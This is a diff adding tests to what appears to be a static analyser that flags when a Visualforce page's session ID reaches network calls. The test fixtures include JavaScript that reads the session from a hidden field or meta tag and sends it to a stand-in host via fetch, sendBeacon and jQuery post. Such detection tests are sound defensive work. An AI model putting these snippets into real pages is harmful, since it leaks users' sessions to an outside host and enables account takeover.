@@ -514,3 +514,30 @@ def test_a_space_between_a_tags_slash_and_its_end_is_still_a_self_closing_tag() 
                     '{!$Api.Session_ID}">x</a>\n</apex:form>'))
     assert ir.notifications == ()
     assert sink(ir, "a.href").in_query
+
+
+def test_a_field_holding_the_session_is_read_back_by_the_pages_script() -> None:
+    """U-17: `<input type="hidden" id="sid" value="{!$Api.Session_ID}">` read with
+    `document.getElementById('sid').value` (or a meta tag's `content`, by selector) is the session."""
+    ir = lower(page(
+        '<input type="hidden" id="sid" value="{!$Api.Session_ID}"/>\n'
+        '<meta name="tok" content="{!$Api.Session_ID}"/>\n'
+        '<input id="other" value="{!$CurrentPage.parameters.id}"/>\n'
+        '<script>\n'
+        'var el = document.getElementById("sid");\n'
+        'fetch("https://x.example.com/a?t=" + el.value);\n'
+        'navigator.sendBeacon("https://x.example.com/b", document.querySelector("meta[name=tok]").content);\n'
+        'window.open("https://x.example.com/c?r=" + document.getElementById("other").value + $("#sid").attr("x"));\n'
+        '$.post("https://x.example.com/d", {s: jQuery("input#sid").val()});\n'
+        '</script>'))
+    sid, tok = sessions(ir)
+    assert sink(ir, "fetch").sources == (sid.id,) and sink(ir, "fetch").in_query
+    assert sink(ir, "navigator.sendBeacon").sources == (tok.id,)
+    assert sink(ir, "jQuery.post").sources == (sid.id,)
+    assert [u.sink for u in ir.url_uses if u.sink == "window.open"] == []
+
+
+def test_a_field_id_written_as_a_merge_field_is_not_followed() -> None:
+    ir = lower(page('<input type="hidden" id="{!fieldId}" value="{!$Api.Session_ID}"/>\n'
+                    '<script>fetch("https://x.example.com/a?t=" + document.getElementById("sid").value);</script>'))
+    assert ir.url_uses == ()
